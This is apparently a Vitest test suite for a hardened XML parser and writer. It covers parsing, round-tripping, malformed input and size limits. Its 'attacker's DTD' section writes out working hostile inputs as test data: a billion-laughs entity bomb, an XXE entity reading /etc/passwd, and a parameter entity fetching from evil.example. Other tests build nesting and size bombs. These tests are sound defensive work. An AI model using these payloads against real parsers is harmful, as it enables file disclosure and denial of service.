import { describe, expect, it } from "vitest";
import { utf8 } from "../../src/core/codec/bytes.ts";
import { parseXml, writeXml, writeXmlFragment, type XmlElement } from "../../src/core/codec/xml.ts";
import { HandsafeError } from "../../src/core/errors.ts";

function refusal(fn: () => unknown): HandsafeError {
  try {
    fn();
  } catch (e) {
    if (e instanceof HandsafeError) return e;
    throw new Error(`not a HandsafeError: ${String(e)}`);
  }
  throw new Error("expected a refusal");
}
const codeOf = (input: Uint8Array | string, limits = {}): string =>
  refusal(() => parseXml(input, limits)).code;

/** CPU milliseconds spent in `fn` — unlike wall time, not stretched by other processes on a loaded machine. */
function cpuMs(fn: () => void): number {
  const before = process.cpuUsage();
  fn();
  const used = process.cpuUsage(before);
  return (used.user + used.system) / 1000;
}

const el = (
  name: string,
  children: XmlElement[] = [],
  text = "",
  attributes: Record<string, string> = {},
): XmlElement => ({ name, attributes, children, text });

describe("well-formed documents", () => {
  it("reads a declaration, attributes in both quotes, text, self-closing tags and comments", () => {
    const doc = `<?xml version="1.0" encoding="UTF-8"?>
<!-- before -->
<r:root xmlns:r="urn:x" a='1' b="two">
  <child>hello &lt;world&gt; &amp; &quot;you&quot; &apos;x&apos; &#65;&#x42;&#x1F600;</child>
  <empty/>
  <e2 x="a&amp;b" />
  <!-- inside -->
</r:root>
<!-- after -->
`;
    expect(parseXml(doc)).toEqual(
      el(
        "r:root",
        [
          el("child", [], "hello <world> & \"you\" 'x' AB\u{1F600}"),
          el("empty"),
          el("e2", [], "", { x: "a&b" }),
        ],
        "",
        { "xmlns:r": "urn:x", a: "1", b: "two" },
      ),
    );
  });

  it("takes bytes with a BOM, and strings", () => {
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8("<a>é</a>")]);
    expect(parseXml(bytes)).toEqual(el("a", [], "é"));
    expect(parseXml("\uFEFF<a/>")).toEqual(el("a"));
  });

  it("keeps mixed content and whitespace-only text of a leaf, drops indentation", () => {
    expect(parseXml("<a>x <b/> y<!--c-->z</a>")).toEqual(el("a", [el("b")], "x  yz"));
    expect(parseXml("<a>  </a>")).toEqual(el("a", [], "  "));
    expect(parseXml("<a>\n  <b/>\n</a>")).toEqual(el("a", [el("b")]));
  });

  it("normalises line ends (§2.11) and attribute whitespace (§3.3.3)", () => {
    expect(parseXml("<a v='x\r\ny\tz'>1\r\n2\r3</a>")).toEqual(el("a", [], "1\n2\n3", { v: "x y z" }));
    expect(parseXml("<a v='&#xD;&#xA;&#x9;'>&#xD;</a>")).toEqual(el("a", [], "\r", { v: "\r\n\t" }));
  });

  it("keeps an attribute named __proto__ as an own property", () => {
    const root = parseXml('<a __proto__="x"/>');
    expect(Object.hasOwn(root.attributes, "__proto__")).toBe(true);
    expect(Object.getOwnPropertyDescriptor(root.attributes, "__proto__")?.value).toBe("x");
    expect(Object.getPrototypeOf(root.attributes)).toBe(Object.prototype);
  });
});

describe("writer", () => {
  const tricky: XmlElement = el(
    "doc",
    [
      el("t", [], `<&>"' \u{1F600} é`, { q: `a"b<c>&d'e`, ws: "\t\n\r x" }),
      el("leafspace", [], "   "),
      el("mixed", [el("b"), el("c", [], "in")], "before"),
      el("spaces", [el("b")], " \n\t"),
      el("cr", [], "a\r\nb\rc"),
      el("nested", [el("x", [el("y", [], "deep")])]),
      el("p:q", [], "", { "xmlns:p": "urn:p" }),
    ],
    "",
    { xmlns: "urn:handsafe:test" },
  );

  it("round-trips: parseXml(writeXml(x)) deep-equals x, indented or not", () => {
    expect(parseXml(writeXml(tricky))).toEqual(tricky);
    expect(parseXml(writeXml(tricky, { indent: false, declaration: false }))).toEqual(tricky);
  });

  it("writes the declaration, two-space indentation and text on its element's line", () => {
    expect(writeXml(el("a", [el("b", [], "1"), el("c", [el("d")])], "", { k: "v" }))).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<a k="v">\n  <b>1</b>\n  <c>\n    <d/>\n  </c>\n</a>\n',
    );
  });

  it("writeXmlFragment writes an element as writeXml does at that depth (for documents made in pieces)", () => {
    const inner = el("c", [el("d", [], "x"), el("e", [el("f")])], "", { k: "v" });
    const whole = writeXml(el("a", [el("b", [inner])]));
    expect(whole).toContain(`\n    ${writeXmlFragment(inner, 2)}\n`);
    expect(writeXmlFragment(inner, 2)).toBe(
      '<c k="v">\n      <d>x</d>\n      <e>\n        <f/>\n      </e>\n    </c>',
    );
  });

  it('escapes &, <, >, "', () => {
    expect(writeXml(el("a", [], `&<>"`, { v: `&<>"` }), { indent: false, declaration: false })).toBe(
      '<a v="&amp;&lt;&gt;&quot;">&amp;&lt;&gt;&quot;</a>',
    );
  });

  it("refuses names and characters XML cannot hold (xml.unwritable)", () => {
    for (const bad of [
      el("1a"),
      el("a b"),
      el(""),
      el("a:b:c"),
      el("a", [], "\u0000"),
      el("a", [], "\uD800"),
      el("a", [], "\uFFFE"),
      el("a", [], "", { "bad name": "x" }),
      el("a", [], "", { v: "\u0001" }),
    ])
      expect(refusal(() => writeXml(bad)).code).toBe("xml.unwritable");
  });
});

describe("an attacker's DTD", () => {
  it("billion laughs (nested entities in a DOCTYPE): xml.dtd_forbidden", () => {
    const lol = [
      '<?xml version="1.0"?>',
      "<!DOCTYPE lolz [",
      '  <!ENTITY lol "lol">',
      ...Array.from(
        { length: 9 },
        (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`,
      ),
      "]>",
      "<lolz>&lol9;</lolz>",
    ].join("\n");
    const e = refusal(() => parseXml(lol));
    expect(e.code).toBe("xml.dtd_forbidden");
    expect(e.status).toBe(400);
    expect(e.details).toEqual({ line: 2, column: 1 });
  });

  it("XXE (an external SYSTEM entity): xml.dtd_forbidden", () => {
    expect(codeOf('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')).toBe(
      "xml.dtd_forbidden",
    );
  });

  it("parameter entities: xml.dtd_forbidden", () => {
    expect(codeOf('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>')).toBe(
      "xml.dtd_forbidden",
    );
  });

  it("an ENTITY (or other DTD markup) outside a DOCTYPE: xml.dtd_forbidden", () => {
    expect(codeOf('<x><!ENTITY e "boom"></x>')).toBe("xml.dtd_forbidden");
    expect(codeOf("<x><!ELEMENT x ANY></x>")).toBe("xml.dtd_forbidden");
    expect(codeOf("<!doctype x><x/>")).toBe("xml.dtd_forbidden");
  });

  it("a reference to an undeclared entity: xml.entity_forbidden", () => {
    expect(codeOf("<x>&e;</x>")).toBe("xml.entity_forbidden");
    expect(codeOf("<x a='&nbsp;'/>")).toBe("xml.entity_forbidden");
  });
});

describe("outside the subset or not well-formed: xml.malformed", () => {
  const cases: Record<string, string> = {
    "CDATA section": "<x><![CDATA[<y/>]]></x>",
    "processing instruction": "<x><?php echo 1 ?></x>",
    "processing instruction before the root": "<?xml-stylesheet href='a'?><x/>",
    "a second XML declaration": '<x/><?xml version="1.0"?>',
    "XML 1.1": '<?xml version="1.1"?><x/>',
    "another encoding": '<?xml version="1.0" encoding="ISO-8859-1"?><x/>',
    "declaration not at the start": ' <?xml version="1.0"?><x/>',
    "comment over 1 KiB": `<x><!--${"a".repeat(1025)}--></x>`,
    "-- in a comment": "<x><!-- a -- b --></x>",
    "unterminated comment": "<x><!-- a",
    "mismatched tags": "<a><b></a></b>",
    "unclosed tag": "<a><b></b>",
    "end tag without start": "</a>",
    "duplicate attribute": "<a x='1' x='2'/>",
    "< in an attribute value": "<a x='<'/>",
    "unquoted attribute": "<a x=1/>",
    "attributes without space": "<a x='1'y='2'/>",
    "text before the root": "hi<a/>",
    "text after the root": "<a/>hi",
    "two roots": "<a/><b/>",
    "no root": "<!-- nothing -->",
    "empty document": "",
    "bad element name": "<1a/>",
    "bad attribute name": "<a 1x='1'/>",
    "two colons in a name": "<a:b:c/>",
    "bare &": "<a>fish & chips</a>",
    "& without ;": "<a>&amp</a>",
    "character reference to NUL": "<a>&#0;</a>",
    "character reference out of range": "<a>&#x110000;</a>",
    "character reference to a surrogate": "<a>&#xD800;</a>",
    "empty character reference": "<a>&#;</a>",
    "control character in text": "<a>\u0001</a>",
    "U+FFFE in text": "<a>\uFFFE</a>",
    "lone surrogate in a string": "<a>\uD800</a>",
    "]]> in text": "<a>]]></a>",
    "unterminated attribute": "<a x='1",
    "unterminated start tag": "<a",
    "unknown markup declaration": "<a><!FOO></a>",
  };
  for (const [name, doc] of Object.entries(cases)) it(name, () => expect(codeOf(doc)).toBe("xml.malformed"));

  it("invalid UTF-8", () => {
    expect(codeOf(new Uint8Array([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]))).toBe(
      "xml.malformed",
    );
    expect(codeOf(new Uint8Array([0x3c, 0x61, 0x3e, 0xed, 0xa0, 0x80, 0x3c, 0x2f, 0x61, 0x3e]))).toBe(
      "xml.malformed",
    );
  });

  it("names the line and column", () => {
    expect(refusal(() => parseXml("<a>\n  <b x='1' x='2'/>\n</a>")).details).toEqual({ line: 2, column: 12 });
  });
});

describe("resource exhaustion", () => {
  it("10 000 levels of nesting: xml.too_deep, quickly and without a stack overflow", () => {
    const deep = "<a>".repeat(10_000) + "</a>".repeat(10_000);
    expect(cpuMs(() => expect(codeOf(deep)).toBe("xml.too_deep"))).toBeLessThan(1000);
    // The reader is iterative: with the limit lifted, 10 000 levels parse.
    let node = parseXml(deep, { maxDepth: 20_000 });
    let depth = 1;
    while (node.children.length > 0) {
      node = node.children[0]!;
      depth++;
    }
    expect(depth).toBe(10_000);
  });

  it("depth 16 is allowed, 17 refused", () => {
    expect(() => parseXml("<a>".repeat(16) + "</a>".repeat(16))).not.toThrow();
    expect(codeOf("<a>".repeat(17) + "</a>".repeat(17))).toBe("xml.too_deep");
  });

  it("10 000 attributes: xml.attribute_too_large", () => {
    const attrs = Array.from({ length: 10_000 }, (_, i) => `a${i}="x"`).join(" ");
    expect(codeOf(`<x ${attrs}/>`)).toBe("xml.attribute_too_large");
    expect(() =>
      parseXml(`<x ${Array.from({ length: 8 }, (_, i) => `a${i}="x"`).join(" ")}/>`),
    ).not.toThrow();
  });

  it("a 5 MB attribute value: xml.attribute_too_large", () => {
    expect(codeOf(`<x v="${"a".repeat(5_000_000)}"/>`)).toBe("xml.attribute_too_large");
    expect(() => parseXml(`<x v="${"a".repeat(4096)}"/>`)).not.toThrow();
    expect(codeOf(`<x v="${"a".repeat(4097)}"/>`)).toBe("xml.attribute_too_large");
  });

  it("more than 200 000 elements: xml.too_many_nodes", () => {
    expect(codeOf(`<r>${"<i/>".repeat(200_000)}</r>`)).toBe("xml.too_many_nodes");
    expect(() => parseXml(`<r>${"<i/>".repeat(199_999)}</r>`)).not.toThrow();
  });

  it("one element's text over maxText: xml.text_too_large", () => {
    expect(codeOf(`<r>${"a".repeat(101)}</r>`, { maxText: 100 })).toBe("xml.text_too_large");
    expect(codeOf(`<r>${"a&amp;".repeat(60)}</r>`, { maxText: 100 })).toBe("xml.text_too_large");
  });

  it("a document over 16 MiB is refused before it is decoded or parsed", () => {
    // Invalid UTF-8 and not XML at all: the size alone decides.
    const huge = new Uint8Array(100 * 1024 * 1024).fill(0xff);
    expect(cpuMs(() => expect(refusal(() => parseXml(huge)).code).toBe("xml.too_large"))).toBeLessThan(100);
    expect(codeOf(new Uint8Array(16 * 1024 * 1024 + 1).fill(0x20))).toBe("xml.too_large");
    expect(codeOf("é".repeat(9 * 1024 * 1024))).toBe("xml.too_large"); // 18 MiB of UTF-8 in 9 Mi chars
  });

  it("a valid 16 MiB document parses, in time linear in its size", () => {
    const record = `<item id="x" kind="files">${"abcdefgh&amp;".repeat(10)}</item>\n`;
    const docOf = (bytes: number) => {
      const count = Math.floor((bytes - 64) / record.length);
      return {
        count,
        doc: utf8(`<?xml version="1.0" encoding="UTF-8"?>\n<r>\n${record.repeat(count)}</r>\n`),
      };
    };
    const { count, doc } = docOf(16 * 1024 * 1024);
    expect(doc.length).toBeLessThanOrEqual(16 * 1024 * 1024);
    expect(doc.length).toBeGreaterThan(16 * 1024 * 1024 - 200);
    const root = parseXml(doc);
    // Linear time: 8 times the bytes take about 8 times as long (64 times if it were quadratic).
    // The fastest of three runs each, the least disturbed by other work on the machine.
    const fastest = (d: Uint8Array) =>
      Math.min(
        ...[0, 1, 2].map(() => {
          const start = performance.now();
          parseXml(d);
          return performance.now() - start;
        }),
      );
    const ratio = fastest(docOf(4 * 1024 * 1024).doc) / fastest(docOf(512 * 1024).doc);
    expect(ratio).toBeLessThan(24);
    expect(root.children.length).toBe(count);
    expect(root.children[0]!.text).toBe("abcdefgh&".repeat(10));
  });
});
